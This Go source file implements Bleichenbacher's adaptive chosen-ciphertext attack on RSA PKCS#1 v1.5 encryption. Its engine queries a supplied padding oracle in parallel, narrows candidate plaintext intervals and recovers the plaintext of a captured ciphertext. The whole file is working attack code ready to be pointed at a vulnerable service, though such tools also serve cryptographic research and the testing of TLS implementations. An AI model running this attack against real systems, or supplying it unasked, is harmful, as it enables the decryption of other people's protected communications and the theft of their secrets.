// Package bleach implements Bleichenbacher's 1998 adaptive chosen
// ciphertext attack against RSA PKCS#1 v1.5 encryption: given a padding
// oracle for a target public key, it recovers the plaintext of a captured
// ciphertext by issuing chosen-ciphertext queries and narrowing a set of
// candidate plaintext intervals until a single value remains.
//
// Grounded on the original pybleach project's padding.py Bleichenbacher
// class, with the multiprocessing pool replaced by goroutines coordinated
// through an errgroup.Group, following the same worker-pool idiom
// cryptopals' set_1.go/c6.go use for their own parallel searches.
package bleach

import (
	"context"
	"fmt"
	"math/big"
	"runtime"
	"sync"
	"sync/atomic"

	"github.com/alexmgr/gobleach/numutils"
	"github.com/alexmgr/gobleach/oracle"
)

// defaultExponent is the RSA public exponent used when WithExponent isn't
// supplied, matching the overwhelming majority of real-world keys.
var defaultExponent = big.NewInt(65537)

var one = big.NewInt(1)

// State is a snapshot of where a search episode is in the attack's state
// machine: Idle -> SearchingS -> Narrowing -> SearchingS/Converging ->
// Done, with Stopped reachable from anywhere via StopSearch.
type State int

const (
	StateIdle State = iota
	StateSearchingS
	StateNarrowing
	StateConverging
	StateDone
	StateStopped
)

func (s State) String() string {
	switch s {
	case StateIdle:
		return "Idle"
	case StateSearchingS:
		return "SearchingS"
	case StateNarrowing:
		return "Narrowing"
	case StateConverging:
		return "Converging"
	case StateDone:
		return "Done"
	case StateStopped:
		return "Stopped"
	default:
		return fmt.Sprintf("State(%d)", int(s))
	}
}

// Option configures an Engine at construction time.
type Option func(*engineConfig)

type engineConfig struct {
	exponent *big.Int
	poolSize int
}

// WithExponent overrides the default public exponent (65537).
func WithExponent(e *big.Int) Option {
	return func(c *engineConfig) { c.exponent = e }
}

// WithPoolSize overrides the default worker pool size (runtime.NumCPU()).
func WithPoolSize(size int) Option {
	return func(c *engineConfig) { c.poolSize = size }
}

// Engine owns the plaintext-interval set M and drives the multiplier search,
// interval narrowing, and convergence described in spec.md §4.4. T is the
// raw result type of the oracle this engine was built with.
type Engine[T any] struct {
	n, e              *big.Int
	k                 int
	b, b2, b3         *big.Int
	sMinStart         *big.Int
	oracle            oracle.Oracle[T]
	callback          oracle.Callback[T]
	poolSize          int

	mu       sync.Mutex
	state    State
	m        []interval
	cancelFn context.CancelFunc
	stopOnce sync.Once

	taskSeq atomic.Uint64
}

// NewEngine validates n, e, oracle, callback and pool size, computes the
// key-width-derived constants B, B2, B3 and sMinStart, and seeds M with the
// single interval [B2, B3-1].
func NewEngine[T any](n *big.Int, o oracle.Oracle[T], cb oracle.Callback[T], opts ...Option) (*Engine[T], error) {
	cfg := engineConfig{exponent: defaultExponent, poolSize: runtime.NumCPU()}
	for _, opt := range opts {
		opt(&cfg)
	}

	if o == nil {
		return nil, ErrInvalidOracle
	}
	if cb == nil {
		return nil, ErrInvalidCallback
	}
	if cfg.poolSize <= 0 {
		return nil, fmt.Errorf("%w: %d", ErrInvalidPoolSize, cfg.poolSize)
	}
	if n == nil || n.Sign() <= 0 {
		return nil, fmt.Errorf("%w: modulus must be a positive integer", ErrInvalidNumber)
	}
	if cfg.exponent == nil || cfg.exponent.Sign() <= 0 {
		return nil, fmt.Errorf("%w: exponent must be a positive integer", ErrInvalidNumber)
	}

	// bitsNeeded = bytesToHold(n)*8, then k = pow2Round(bitsNeeded): the
	// modulus' bit length, rounded down to a byte boundary and back up to
	// the nearest power of two. For conventional RSA key sizes (512, 1024,
	// 2048, 4096, ...) this recovers the nominal key size exactly.
	bytesToHold, err := numutils.BytesToHold(n)
	if err != nil {
		return nil, fmt.Errorf("%w: modulus: %s", ErrInvalidNumber, err)
	}
	kBig, err := numutils.Pow2Round(big.NewInt(int64(bytesToHold) * 8))
	if err != nil {
		return nil, fmt.Errorf("%w: modulus: %s", ErrInvalidNumber, err)
	}
	k := int(kBig.Int64())
	if k < 16 {
		return nil, fmt.Errorf("%w: modulus must be at least 2^15 (k=%d too small)", ErrInvalidNumber, k)
	}

	b := new(big.Int).Lsh(one, uint(k-16))
	b2 := new(big.Int).Lsh(b, 1)
	b3 := new(big.Int).Mul(b, big.NewInt(3))
	sMinStart := numutils.CeilDiv(n, b3)

	m0, err := newInterval(b2, new(big.Int).Sub(b3, one))
	if err != nil {
		return nil, err
	}

	return &Engine[T]{
		n:         n,
		e:         cfg.exponent,
		k:         k,
		b:         b,
		b2:        b2,
		b3:        b3,
		sMinStart: sMinStart,
		oracle:    o,
		callback:  cb,
		poolSize:  cfg.poolSize,
		state:     StateIdle,
		m:         []interval{m0},
	}, nil
}

// State reports the engine's current position in the attack's state
// machine. Safe to call concurrently with RunSearch.
func (e *Engine[T]) State() State {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.state
}

func (e *Engine[T]) setState(s State) {
	e.mu.Lock()
	e.state = s
	e.mu.Unlock()
}

// RunSearch blocks until the plaintext is recovered, ctx is cancelled, or
// StopSearch is called. It returns the final interval's lower bound a and
// the recovered plaintext a mod n.
func (e *Engine[T]) RunSearch(ctx context.Context, c *big.Int) (a, m *big.Int, err error) {
	searchCtx, cancel := context.WithCancel(ctx)
	e.mu.Lock()
	e.cancelFn = cancel
	e.state = StateSearchingS
	e.mu.Unlock()
	defer cancel()

	s, _, err := e.searchS(searchCtx, c, new(big.Int).Set(e.sMinStart))
	if err != nil {
		return nil, nil, err
	}

	for {
		e.setState(StateNarrowing)
		e.m, err = narrowIntervals(e.m, s, e.n, e.b2, e.b3)
		if err != nil {
			return nil, nil, err
		}

		if len(e.m) == 1 && e.m[0].A.Cmp(e.m[0].B) == 0 {
			e.setState(StateDone)
			iv := e.m[0]
			return iv.A, new(big.Int).Mod(iv.A, e.n), nil
		}

		if len(e.m) == 1 {
			e.setState(StateConverging)
			return e.converge(searchCtx, c, s)
		}

		e.setState(StateSearchingS)
		s, _, err = e.searchS(searchCtx, c, new(big.Int).Add(s, one))
		if err != nil {
			return nil, nil, err
		}
	}
}

// StopSearch cancels the active search, if any. It is idempotent and safe
// to call from a goroutine other than the one running RunSearch.
func (e *Engine[T]) StopSearch() {
	e.stopOnce.Do(func() {
		e.mu.Lock()
		cancel := e.cancelFn
		e.state = StateStopped
		e.mu.Unlock()
		if cancel != nil {
			cancel()
		}
	})
}

// searchS runs the parallel multiplier search (Phase A when start is
// sMinStart, Phase B's re-search otherwise): it hands the pool tasks with
// monotonically increasing s starting at start, and returns the first s for
// which the oracle accepts c*s^e mod n, along with the iteration count at
// which that task was submitted.
func (e *Engine[T]) searchS(ctx context.Context, c, start *big.Int) (*big.Int, uint64, error) {
	p := newPool[T](e.n, e.e, e.oracle, e.callback, e.poolSize)
	defer p.stop()

	taskID := e.taskSeq.Add(1)

	p.spawn(func() error {
		s := new(big.Int).Set(start)
		var i uint64 = 1
		for {
			if !p.submit(task{taskID: taskID, c: c, s: new(big.Int).Set(s), i: i}) {
				return nil
			}
			i++
			s.Add(s, one)
		}
	})

	select {
	case r := <-p.results:
		if r.taskID != taskID {
			// Cannot happen with one pool per episode, but guards the
			// ordering invariant from spec.md §5 if that ever changes.
			return nil, 0, fmt.Errorf("received result for stale task %d, want %d", r.taskID, taskID)
		}
		return r.s, r.i, nil
	case <-ctx.Done():
		return nil, 0, ctx.Err()
	}
}

// converge runs Phase C: a convergence generator seeded from the last
// winning multiplier s, driving a bounded, strictly sequential linear
// search (no pool) over each yielded (sMin, sMax) range until M narrows to
// a single point.
func (e *Engine[T]) converge(ctx context.Context, c, s *big.Int) (*big.Int, *big.Int, error) {
	iv := e.m[0]
	a, b := iv.A, iv.B

	r := numutils.FloorDiv(
		new(big.Int).Mul(big.NewInt(2), new(big.Int).Sub(new(big.Int).Mul(b, s), e.b2)),
		e.n,
	)

	for {
		rN := new(big.Int).Mul(r, e.n)
		sMin := numutils.CeilDiv(new(big.Int).Add(e.b2, rN), b)
		sMax := numutils.FloorDiv(new(big.Int).Add(e.b3, rN), a)

		found, ok, err := e.boundedLinearSearch(ctx, c, sMin, sMax)
		if err != nil {
			return nil, nil, err
		}
		r.Add(r, one)
		if !ok {
			continue
		}

		e.m, err = narrowIntervals(e.m, found, e.n, e.b2, e.b3)
		if err != nil {
			return nil, nil, err
		}
		if len(e.m) != 1 {
			return nil, nil, fmt.Errorf("convergence narrowed to %d intervals, want 1", len(e.m))
		}

		iv = e.m[0]
		a, b = iv.A, iv.B
		if a.Cmp(b) == 0 {
			e.setState(StateDone)
			return a, new(big.Int).Mod(a, e.n), nil
		}
	}
}

// boundedLinearSearch tries s = sMin, sMin+1, ..., sMax in order and returns
// the first one the oracle accepts. Because the loop is strictly
// sequential, this is also the smallest accepting s in range — unlike
// Phase A/B's parallel search, where any winning s is acceptable.
func (e *Engine[T]) boundedLinearSearch(ctx context.Context, c, sMin, sMax *big.Int) (*big.Int, bool, error) {
	for s := new(big.Int).Set(sMin); s.Cmp(sMax) <= 0; s.Add(s, one) {
		select {
		case <-ctx.Done():
			return nil, false, ctx.Err()
		default:
		}

		cPrime := new(big.Int).Mod(new(big.Int).Mul(c, numutils.PowMod(s, e.e, e.n)), e.n)
		ok, err := e.oracle.Query(ctx, cPrime, e.callback)
		if err != nil {
			continue // transport failure: treated as non-conforming, per spec.md §4.4.5
		}
		if ok {
			return new(big.Int).Set(s), true, nil
		}
	}
	return nil, false, nil
}
